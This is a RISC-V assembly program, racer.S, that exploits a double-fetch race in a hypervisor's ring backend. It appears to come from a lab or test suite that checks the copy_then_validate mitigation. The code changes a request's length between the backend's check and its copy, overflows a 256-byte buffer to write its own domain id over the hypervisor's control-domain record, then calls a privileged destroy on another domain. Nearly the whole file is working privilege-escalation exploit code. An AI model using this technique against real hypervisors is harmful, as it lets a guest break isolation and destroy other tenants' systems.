# racer.S - wins the double fetch in the hypervisor's ring backend (XSA-155).
#
# The backend checks a request's `len` when the doorbell rings and copies
# `len` bytes into its 256-byte buffer on its next tick. If it reads `len`
# from the shared page again for the copy, this program changes `len` in
# between: the copy runs 4 bytes past the buffer, into the hypervisor's
# record of which domain is the control domain, and writes our own domid
# there. Then we try the privileged control API: VMCTL destroy(2).
#
# With dgram.copy_then_validate on, the backend copies the request once and
# the late change to `len` has no effect: destroy is denied.

.include "lib/sbi.S"        # EID_..., the hypercall numbers
.equ VICTIM, 2

.text
.globl _start
_start:
    li   a7, EID_VMCTL
    li   a6, VMCTL_SELF     # self(): our domid, the value we smuggle in
    ecall
    mv   s1, a1
    li   a7, EID_DGRAM
    li   a6, DGRAM_RING_SETUP # ring_setup(ring)
    la   a0, ring
    ecall
    la   s0, ring
    li   t0, DGRAM_OP_LOG
    sw   t0, DGRAM_RING_OP(s0)
    li   t0, 16
    sw   t0, DGRAM_RING_LEN(s0) # len = 16: passes the doorbell's check
    sw   s1, DGRAM_RING_DATA + 256(s0) # data[256]: what lands behind the backend's buffer
    li   a7, EID_DGRAM
    li   a6, DGRAM_DOORBELL # doorbell()
    ecall
    li   t0, 260
    sw   t0, DGRAM_RING_LEN(s0) # len = 260: too late for the check, in time for the copy
1:  lw   t0, DGRAM_RING_STATUS(s0) # wait for the backend's completion
    li   t1, DGRAM_STATUS_DONE
    beq  t0, t1, 2f
    wfi
    j    1b
2:  la   a0, raced
    call puts
    li   a7, EID_VMCTL
    li   a6, VMCTL_DESTROY  # destroy(VICTIM): only the control domain may
    li   a0, VICTIM
    ecall
    bnez a0, 3f
    la   a0, won
    call puts
    j    4f
3:  la   a0, lost
    call puts
4:  wfi
    j    4b

.include "lib/dbcn.S"      # puts(a0): print through the debug console

raced: .asciz "racer: request completed; trying VMCTL destroy(2)\n"
won:   .asciz "racer: destroy(2) succeeded: the hypervisor thinks we are the control domain\n"
lost:  .asciz "racer: destroy(2) denied: the race was lost\n"

.data
.balign 4096
ring: .zero 4096
